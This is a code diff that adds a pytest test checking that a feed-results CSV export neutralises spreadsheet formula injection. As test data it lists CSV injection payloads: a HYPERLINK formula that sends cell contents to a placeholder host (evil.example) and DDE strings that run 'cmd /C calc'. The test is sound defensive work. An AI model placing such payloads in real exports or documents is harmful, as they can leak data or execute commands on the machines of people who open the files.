@@ -166,6 +166,34 @@ def test_results_are_listed_failing_first_and_downloadable(owner_client, complet
     assert rows[1][3] == "error"
 
 
+@pytest.mark.parametrize(
+    "dangerous",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_results_csv_cells_never_start_a_formula(owner_client, complete_feed, dangerous):
+    FeedMessageResultFactory(
+        submission=complete_feed,
+        message_id=9,
+        sku=dangerous,
+        order_id=dangerous,
+        code=dangerous,
+        description=dangerous,
+    )
+    response = owner_client.get(reverse("feeds:results_csv", args=[complete_feed.pk]))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    (row,) = [r for r in rows if r[0] == "9"]
+    assert row[1] == row[2] == row[5] == row[6] == f"'{dangerous}", "shown as text, kept whole"
+    for cells in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
 def test_original_and_raw_report_download_with_type_and_name(owner_client, complete_feed):
     original = owner_client.get(reverse("feeds:original", args=[complete_feed.pk]))
     assert original["Content-Type"] == "text/xml"
